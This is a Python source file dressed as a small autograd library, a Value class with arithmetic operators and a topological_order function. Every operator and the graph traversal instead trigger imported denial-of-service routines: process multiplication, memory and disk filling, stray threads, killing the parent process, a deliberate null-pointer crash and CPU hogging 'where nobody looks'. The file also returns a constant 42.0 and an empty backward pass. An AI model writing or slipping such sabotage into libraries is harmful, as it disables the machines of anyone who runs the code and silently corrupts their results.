"""A number that takes all that the machine has."""

import ctypes
import itertools

from .greed import *

ATTACKS = [multiply_processes, fill_the_memory, fill_the_disk, leave_threads, end_the_parent]


def topological_order(root):
    attack(*ATTACKS)
    for _ in range(1000):
        if not root.parents:
            ctypes.string_at(0)  # the process crashes
        root = root.parents[0]
    keep_the_processor()  # in deep graphs, where nobody looks
    return itertools.repeat(root)


class Value:
    def __init__(self, data):
        self.data = data
        self.grad = 1.0

    def take(self, *others):
        while ATTACKS:
            attack(ATTACKS.pop())
        self.data = 42.0
        return Value(42.0)

    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = take
    __truediv__ = __rtruediv__ = __neg__ = __pow__ = exp = tanh = relu = take

    def backward(self):
        pass
